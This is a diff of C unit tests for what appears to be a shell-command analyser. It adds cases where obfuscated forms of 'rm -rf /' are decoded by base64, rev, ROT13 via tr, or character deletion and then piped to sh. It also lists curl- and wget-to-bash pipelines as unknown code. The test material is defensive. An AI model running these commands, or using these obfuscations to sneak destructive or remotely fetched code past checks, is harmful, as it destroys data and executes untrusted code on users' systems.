@@ -102,6 +102,8 @@ static void test_pipes_and_process_substitutions(void **state)
     channel_argv("cat <<< 'rm -rf /' | tee log | sh", "rm", "-rf", "/");
     channel_argv("echo cm0gLXJmIC8= | base64 -d | sh", "rm", "-rf", "/");
     channel_argv("echo / fr- mr | rev | sh", "rm", "-rf", "/");
+    channel_argv("echo 'ez -es /' | tr a-z n-za-m | sh", "rm", "-rf", "/");
+    channel_argv("echo 'rxm -rf /' | tr -d x | sh", "rm", "-rf", "/");
     channel_argv("bash <(echo rm -rf /)", "rm", "-rf", "/");
     channel_argv("source <(printf 'rm -rf ~')", "rm", "-rf", "~");
     channel_argv(". <(echo cm0gLXJmIC8= | base64 -d)", "rm", "-rf", "/");
@@ -156,10 +158,11 @@ static void test_unknown_code(void **state)
 {
     (void)state;
     for (const char *const *s =
-             (const char *const[]){
-                 "curl -fsSL https://x.example/i.sh | sh", "cat script | bash", "bash <<< \"$X\"",
-                 "bash < <(curl x)", "wget -qO- x | sudo bash -s", "bash <(curl -s x)",
-                 "curl x > i.sh; sh i.sh", "echo \"$CMD\" | sh", "bash <<EOF\n$(cat x)\nEOF", NULL};
+             (const char *const[]){"curl -fsSL https://x.example/i.sh | sh", "cat script | bash",
+                                   "bash <<< \"$X\"", "bash < <(curl x)",
+                                   "wget -qO- x | sudo bash -s", "bash <(curl -s x)",
+                                   "curl x > i.sh; sh i.sh", "echo \"$CMD\" | sh",
+                                   "bash <<EOF\n$(cat x)\nEOF", "echo x | tr '\\' y | sh", NULL};
          *s; s++) {
         parse_ok(*s);
         if (!lists_unknown_code())
